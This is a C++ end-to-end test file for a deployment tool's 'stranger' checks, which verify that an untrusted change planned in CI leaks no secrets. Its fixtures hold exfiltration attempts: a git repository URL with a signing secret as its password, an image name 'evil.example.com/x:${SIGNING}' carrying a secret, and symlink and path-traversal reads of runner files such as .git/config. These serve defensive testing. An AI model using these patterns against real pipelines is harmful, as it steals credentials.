// A change by somebody whom nobody knows, checked by a machine that has keys in its pocket.

#include "stranger_world.hpp"
#include "trap.hpp"

#include <catch2/catch.hpp>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>

using Catch::Contains;
using e2e::Command;
using e2e::Result;
using e2e::World;
using test::Trap;

namespace {

namespace fs = std::filesystem;

using e2e::compose;

const std::string web = "  - {name: web, file: web.yml, env: {SIGNING: {env: SIGN}, COLOUR: crimson77}}\n";

std::string git_stack(const std::string &url, const std::string &password) {
    return "  - name: evil\n    gitConfig: {url: '" + url +
           "/evil.git', configFilePath: c.yml, authentication: {username: x, password: " + password + "}}\n";
}

} // namespace

TEST_CASE("a change sends no reference to a repository that main does not send it to", "[e2e][stranger]") {
    const Trap trap;
    e2e::Change it;
    it.base(web);
    const std::string reference = GENERATE("{env: OTHER}", "{env: SIGN}");
    const bool preflight = GENERATE(false, true);
    it.change(web + git_stack(trap.url(), reference));
    INFO(reference << " " << preflight);
    const Result result =
        it.plan(preflight ? std::vector<std::string>{"--preflight"} : std::vector<std::string>{});
    INFO(result.out << result.err);
    CHECK(result.exit_code == 0);
    CHECK(trap.all_heard() == "");
    CHECK_THAT(it.sent_to_server(), !Contains("other-secret-4711") && !Contains("signing-marker"));
    CHECK_THAT(result.out, Contains("which is not asked before it is merged") &&
                               Contains("--allow-repository-change") && !Contains("other-secret"));
    if (preflight) {
        CHECK_THAT(it.sent_to_server(), !Contains("repo/file/preview"));
        (void)it.plan({"--preflight", "--allow-repository-change"});
        CHECK(trap.all_heard() != ""); // so it does hear
    }
}

TEST_CASE("the key of a server is never a git password", "[e2e][stranger]") {
    const Trap trap;
    e2e::Change it;
    it.base(web);
    it.change(web + git_stack(trap.url(), "{env: KEY}"));
    for (const auto &arguments :
         {std::vector<std::string>{"--preflight"}, {"--preflight", "--allow-repository-change"}}) {
        const Result result = it.plan(arguments);
        INFO(result.out << result.err);
        CHECK(result.exit_code == 1);
        CHECK_THAT(result.err, Contains("is the API key of server 'main'"));
    }
    CHECK(trap.all_heard() == "");
    CHECK_THAT(it.sent_to_server(), !Contains("preview"));
}

TEST_CASE("a known password does not follow a change of its repository", "[e2e][stranger]") {
    const Trap trap;
    const Trap own; // refuses, which is all the same here
    e2e::Change it;
    const auto stack = [&](const std::string &url, const std::string &more) {
        return "  - {name: git, state: stopped, gitConfig: {url: '" + url +
               "/x.git', configFilePath: c.yml, authentication: {username: bot, password: {env: SIGN}}" +
               more + "}}\n";
    };
    it.repository.commit(
        {{"stowage.yaml", it.head_of("") + "stacks:\n" + web + stack(own.url(), "")}, {"web.yml", compose}});
    const std::string moved = GENERATE_REF(stack(trap.url(), ""), stack(own.url(), ", tlsSkipVerify: true"));
    it.change(web + moved);
    const Result result = it.plan({"--preflight"});
    INFO(result.out << result.err);
    CHECK(trap.all_heard() == "");
    CHECK(own.all_heard() == "");
    CHECK_THAT(it.sent_to_server(), !Contains("signing-marker"));
}

TEST_CASE("a secret goes into no image's name before it is merged", "[e2e][stranger]") {
    e2e::Change it;
    it.base(web);
    it.change(web, {{"web.yml", "services:\n  app:\n    image: evil.example.com/x:${SIGNING}\n"}});
    const Result result = it.plan({"--preflight"});
    INFO(result.out << result.err);
    CHECK_THAT(it.sent_to_server(), !Contains("signing-marker"));
    CHECK_THAT(result.out, Contains("can't be checked: a part of it comes by reference"));
}

TEST_CASE("headers and authorities that a change brings make a server another one", "[e2e][stranger]") {
    e2e::Change it;
    it.base(web);
    it.change(web, {}, ", headers: {X-A: {env: OTHER}}");
    const auto before = it.world.requests().size();
    const Result result = it.plan();
    INFO(result.out << result.err);
    CHECK(result.exit_code == 1);
    CHECK_THAT(result.out + result.err, Contains("this change sends it other headers"));
    CHECK(it.world.requests().size() == before);
}

TEST_CASE("a server that is reached in another way gets nothing", "[e2e][stranger]") {
    const Trap server;
    const std::string url = "https://127.0.0.1:" + std::to_string(server.port());
    const e2e::Checkout it;
    const auto desire = [&](const std::string &more) {
        it.write("stowage.yaml", "apiVersion: stowage/v1\nservers: [{name: main, url: '" + url +
                                     "', apiKey: {env: KEY}, " + more +
                                     "}]\nstacks: [{name: web, environment: a, file: web.yml}]\n");
    };
    it.git("init");
    it.write("ca.pem", "one\n");
    it.write("other.pem", "two\n");
    it.write("web.yml", compose);
    desire("tls: {caFile: ca.pem}");
    it.git("add -A");
    it.git("commit -m main");
    it.git("checkout -b change");
    const std::string pin = "sha256//AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
    const std::string way =
        GENERATE_REF(as<std::string>{}, "tls: {caFile: other.pem}", "tls: {caFile: ca.pem, insecure: true}",
                     "tls: {caFile: ca.pem, fingerprint: '" + pin + "'}", "tls: {insecure: true}",
                     "tls: {caFile: ca.pem}, headers: {X-A: {env: OTHER}}", "content");
    INFO(way);
    desire(way == "content" ? "tls: {caFile: ca.pem}" : way);
    if (way == "content")
        it.write("ca.pem", "two\n");
    it.git("commit -am change");
    for (const auto &arguments : {std::vector<std::string>{"plan", "--base", "main"},
                                  {"plan", "--git", ".", "--ref", "change", "--base", "main"}}) {
        const Result result = it.run(arguments, true);
        INFO(result.out << result.err);
        CHECK(result.exit_code == 1);
        CHECK_THAT(result.out + result.err, Contains("nothing was sent"));
    }
    CHECK(server.heard().empty());
}

TEST_CASE("in CI without a base nothing of the servers is shown", "[e2e][stranger]") {
    e2e::Change it;
    it.base(web);
    it.change("  - {name: web, file: web.yml, env: {SIGNING: d, COLOUR: azure88}}\n",
              {{"web.yml", "services:\n  app:\n    image: busybox:1\n"}});
    for (const char *command : {"plan", "diff"}) {
        const Result result = it.run({command, "--git", it.repository.path(), "--ref", "change"});
        INFO(result.out << result.err);
        CHECK_THAT(result.out, Contains("azure88") && !Contains("crimson77") && !Contains("nginx") &&
                                   !Contains("signing-marker"));
        if (std::string(command) == "plan")
            CHECK_THAT(result.out,
                       Contains("in CI what the servers have is not shown unless --base says whose"));
    }
}

TEST_CASE("a value that main has by reference is not shown, whatever the change writes", "[e2e][stranger]") {
    e2e::Change it;
    it.base(web);
    it.change("  - {name: web, file: web.yml, env: {SIGNING: d, COLOUR: azure88}}\n");
    for (const char *format : {"text", "markdown", "json", "html"}) {
        Command command;
        command.arguments = {"plan",   "--git", it.repository.path(), "--ref", "change",
                             "--base", "main",  "--format",           format};
        command.env = {{"CI", "true"}}; // SIGN is not set here, so nobody knows its value
        const Result result = it.world.run(std::move(command));
        INFO(format << result.out << result.err);
        CHECK_THAT(result.out, !Contains("signing-marker") && Contains("SIGNING"));
    }
    CHECK_THAT(it.plan().out, Contains("crimson77")); // a literal of main's own
}

TEST_CASE("what main does not own is not shown", "[e2e][stranger]") {
    e2e::Change it;
    it.base(web);
    auto all = nlohmann::json::parse(it.world.server().state());
    for (auto &stack : all["stacks"])
        if (stack["Name"] == "web")
            stack["Name"] = "private";
    it.world.server().set_state(all.dump());
    const std::string grabs =
        GENERATE("  - {name: private, file: other.yml, env: {COLOUR: guess}}\n",
                 "  - {name: mine, formerName: private, file: other.yml, env: {COLOUR: guess}}\n");
    it.change(grabs, {{"other.yml", "services:\n  mine:\n    image: busybox:1\n"}});
    const Result result = it.plan();
    INFO(result.out << result.err);
    CHECK(result.exit_code == 0);
    CHECK_THAT(result.out, !Contains("crimson77") && !Contains("nginx") && !Contains("signing-marker"));

    // Nor in a snapshot that main takes for those who have no key.
    const std::string snapshot = (it.world.folder() / "state.json").string();
    const Result taken = it.run({"snapshot", "--git", it.repository.path(), "--out", snapshot});
    INFO(taken.out << taken.err);
    REQUIRE(taken.exit_code == 0);
    CHECK_THAT(e2e::content_of(snapshot),
               !Contains("nginx") && !Contains("crimson77") && !Contains("signing-marker"));
}

TEST_CASE("a snapshot has no secret by hand, whatever is set where it is taken", "[e2e][stranger]") {
    e2e::Change it;
    it.base(web);
    auto all = nlohmann::json::parse(it.world.server().state());
    for (auto &stack : all["stacks"]) {
        stack["Env"].push_back({{"name", "COPY"}, {"value", "x signing-marker-0815 y"}});
        for (const char *name : {"FileContent", "fileContent", "content"})
            if (stack.contains(name))
                stack[name] = compose + "    labels: {tok: signing-marker-0815}\n";
    }
    it.world.server().set_state(all.dump());
    const std::string snapshot = (it.world.folder() / "state.json").string();
    const bool set = GENERATE(true, false);
    Command command;
    command.arguments = {"snapshot", "--git", it.repository.path(), "--out", snapshot};
    if (set)
        command.env = e2e::pocket;
    const Result taken = it.world.run(std::move(command));
    INFO(taken.out << taken.err);
    REQUIRE(taken.exit_code == 0);
    CHECK_THAT(e2e::content_of(snapshot), !Contains("signing-marker"));
}

TEST_CASE("files of the machine are not the change's to show", "[e2e][stranger]") {
    const e2e::Checkout it;
    it.git("init");
    it.write("web.yml", compose);
    it.desire("  - {name: web, file: web.yml}\n");
    it.git("add -A");
    it.git("commit -m main");
    it.git("checkout -b change");
    it.write("untracked.yml", "services: {x: {image: 'secret-of-the-runner:1'}}\n");
    std::ofstream(it.top / ".git/marker") << "services: {x: {image: 'secret-of-the-runner:1'}}\n";
    std::ofstream(it.world.folder() / "outside.yml") << "services: {x: {image: 'secret-of-the-runner:1'}}\n";
    fs::create_symlink("../outside.yml", it.top / "link.yml");
    fs::create_directory_symlink("..", it.top / "up");
    const std::string which = GENERATE(as<std::string>{}, "untracked.yml", ".git/marker", ".GIT/marker",
                                       "link.yml", "up/outside.yml", "../outside.yml", "/outside.yml");
    const std::string named = which.starts_with('/') ? it.world.folder().string() + which : which;
    it.desire("  - {name: web, file: " + named + "}\n");
    it.git("add stowage.yaml link.yml up");
    it.git("commit -m change");
    INFO(named);
    for (const auto &arguments : {std::vector<std::string>{"plan", "--base", "main"},
                                  {"plan"},
                                  {"check"},
                                  {"validate"},
                                  {"plan", "--base", "main", "--inside", "."}}) {
        const bool explicit_folder = arguments.back() == ".";
        if (explicit_folder && named == "untracked.yml")
            continue; // that is what --inside is for
        const Result result = it.run(arguments, true);
        INFO(arguments.front() << result.out << result.err);
        CHECK(result.exit_code == 1);
        CHECK_THAT(result.out + result.err, !Contains("secret-of-the-runner"));
    }
    if (named != ".GIT/marker") {
        const Result person = it.run({"plan"}, false);
        INFO(person.err);
        CHECK(person.exit_code == 0);
        CHECK(it.run({"plan", "--inside", "/"}, true).exit_code == 0);
    }
}

TEST_CASE("a desired state that is a link shows nothing of the machine", "[e2e][stranger]") {
    const e2e::Checkout it;
    it.git("init");
    it.desire("  - {name: web, state: absent}\n");
    it.git("add -A");
    it.git("commit -m main");
    fs::remove(it.top / "stowage.yaml");
    fs::create_symlink(".git/config", it.top / "stowage.yaml");
    for (const char *command : {"plan", "check", "validate"}) {
        const Result result = it.run({command}, true);
        CHECK(result.exit_code == 1);
        CHECK_THAT(result.out + result.err, Contains("is a link") && !Contains("bare"));
    }
}

TEST_CASE("an option without a value is a mistake, not one that was left out", "[e2e][stranger]") {
    const World world;
    world.write("web.yml", compose);
    world.desire("  - {name: web, file: web.yml}\n");
    for (const auto &arguments : {std::vector<std::string>{"plan", "--base", ""},
                                  {"plan", "--base", "", "--changed-only"},
                                  {"plan", "--base="},
                                  {"plan", "--git", ""},
                                  {"plan", "--git", ".", "--ref", ""},
                                  {"plan", "--state", ""},
                                  {"plan", "--inside", ""},
                                  {"plan", "--fail-on", ""},
                                  {"plan", "--out", ""},
                                  {"plan", "--only", ""},
                                  {"check", "--policy-ref", ""},
                                  {"check", "--policy-ref="},
                                  {"check", "--policy", ""},
                                  {"apply", "--git", ""},
                                  {"apply", "--rotate-credentials", ""},
                                  {"apply", "--rotate-credentials="},
                                  {"apply", "--rotate-credentials", "web", ""},
                                  {"apply", ""}}) {
        const Result result = world.run(arguments);
        INFO(arguments.at(1) << ": " << result.out << result.err);
        CHECK(result.exit_code == 1);
        CHECK(world.requests().empty());
    }
}

TEST_CASE("a policy reference without a policy is an error", "[e2e][stranger]") {
    const e2e::Checkout it;
    it.git("init");
    it.write("web.yml", compose);
    it.desire("  - {name: web, file: web.yml}\n");
    it.git("add -A");
    it.git("commit -m main");
    const Result result = it.run({"check", "--policy-ref", "main"}, true);
    CHECK(result.exit_code == 1);
    CHECK_THAT(result.out + result.err, Contains("'main' has no policy"));
    CHECK(it.run({"check", "--policy-ref", "main", "--allow-no-policy"}, true).exit_code == 0);
}
